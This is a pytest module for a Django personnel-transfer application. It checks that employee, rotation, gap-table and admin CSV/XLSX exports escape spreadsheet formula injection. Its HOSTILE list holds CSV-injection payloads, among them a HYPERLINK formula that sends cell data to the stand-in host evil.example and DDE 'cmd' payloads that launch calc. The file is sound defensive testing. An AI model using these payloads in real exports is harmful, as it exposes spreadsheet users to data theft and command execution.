"""Formula injection: every CSV/XLSX export neutralises every cell a spreadsheet would run.

Names, codes and positions come from imports and forms, so each may hold ``=HYPERLINK(…)``,
``+cmd|…``, ``@SUM(…)`` or text behind a tab or carriage return. Each export path below is
read back and *every* cell is checked, not only the one planted: a new column added to an
export later is covered too.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from pontianak_mutasi.importing.tables import write_table
from pontianak_mutasi.importing.widgets import _FORMULA_START, _PLAIN_NUMBER, escape_formula
from pontianak_mutasi.models import JenisTugas, StatusTugas
from pontianak_mutasi.tugas import services
from tests.factories import (
    AnalisisBebanKerjaFactory,
    FormasiFactory,
    InstansiFactory,
    JabatanFactory,
    PegawaiFactory,
    UnitKerjaFactory,
)

EN = {"accept-language": "en"}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def live_formula(value) -> bool:
    """True for a text cell a spreadsheet would evaluate (plain numbers are harmless)."""
    return (
        isinstance(value, str)
        and value.startswith(_FORMULA_START)
        and not _PLAIN_NUMBER.match(value)
    )


def cells(data: bytes, fmt: str) -> list:
    if fmt == "csv":
        return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active  # formulas kept as formulas
    found = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            found.append(cell.value)
    return found


def assert_neutralised(data: bytes, fmt: str, expect: int) -> None:
    values = cells(data, fmt)
    assert not [v for v in values if live_formula(v)]
    # The hostile text is there, escaped — not dropped (an empty export would pass too).
    escaped = [v for v in values if isinstance(v, str) and v.startswith("'")]
    assert len(escaped) >= expect, values


@pytest.fixture
def hostile_province(dinkes):
    """An agency, a unit, a position and six employees, each named with a formula."""
    agency = InstansiFactory(kode="8.88", nama=HOSTILE[0])
    unit = UnitKerjaFactory(instansi=agency, kode="U1", nama=HOSTILE[1])
    jabatan = JabatanFactory(nama=HOSTILE[2])
    formasi = FormasiFactory(instansi=agency, jabatan=jabatan)
    AnalisisBebanKerjaFactory(formasi=formasi, volume=75_000, norma_waktu=1)
    for nama in HOSTILE:
        PegawaiFactory(
            instansi=agency, unit=unit, jabatan=jabatan, nama=nama, tmt_jabatan=dt.date(2015, 1, 1)
        )
    return agency


def run_export(django_capture_on_commit_callbacks, owner, jenis, params) -> bytes:
    with django_capture_on_commit_callbacks(execute=True):
        tugas = services.tugas_create(owner=owner, jenis=jenis, params=params)
    tugas.refresh_from_db()
    assert tugas.status == StatusTugas.DONE, tugas.error
    with tugas.result_file.open("rb") as f:
        return f.read()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_employee_export_job(
    verifikator_bkd, hostile_province, django_capture_on_commit_callbacks, fmt
):
    data = run_export(
        django_capture_on_commit_callbacks,
        verifikator_bkd,
        JenisTugas.EKSPOR_PEGAWAI,
        {"format": fmt},
    )
    assert_neutralised(data, fmt, expect=len(HOSTILE))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_rotation_report_export_job(
    verifikator_bkd, hostile_province, django_capture_on_commit_callbacks, fmt
):
    data = run_export(
        django_capture_on_commit_callbacks,
        verifikator_bkd,
        JenisTugas.EKSPOR_ROTASI,
        {"format": fmt, "status": "all"},
    )
    # Names, agency, unit and position of six employees.
    assert_neutralised(data, fmt, expect=4 * len(HOSTILE))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("by", ["instansi", "jabatan"])
def test_gap_table_export(client, verifikator_bkd, hostile_province, fmt, by):
    client.force_login(verifikator_bkd)
    response = client.get(
        reverse("instansi:kesenjangan"), {"scope": "all", "format": fmt, "by": by}
    )
    assert response.status_code == 200
    assert_neutralised(response.content, fmt, expect=1)


@pytest.mark.parametrize(("fmt", "index"), [("csv", "0"), ("xlsx", "1")])
def test_admin_export(client, admin, hostile_province, fmt, index):
    client.force_login(admin)
    fields = ["nip", "nama", "instansi", "unit", "jabatan"]
    data = {"format": index, "resource": "0"}
    data.update({f"pegawairesource_{f}": "on" for f in fields})
    response = client.post(reverse("admin:pegawai_pegawai_export"), data, headers=EN)
    assert response.status_code == 200
    assert_neutralised(response.content, fmt, expect=len(HOSTILE))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_write_table_escapes_every_prefix(fmt):
    out = write_table([["a", "b"], *([v, 1] for v in HOSTILE)], fmt)
    assert_neutralised(out.read(), fmt, expect=len(HOSTILE))


@given(st.text(max_size=50))
def test_escape_formula_never_leaves_a_live_formula(text):
    escaped = escape_formula(text)
    assert not live_formula(escaped)
    # Only ever a prefix: the value itself survives for the reader (and a re-import).
    assert escaped in (text, "'" + text)
    assert escape_formula(escaped) == escaped  # escaping twice changes nothing (tables.py)
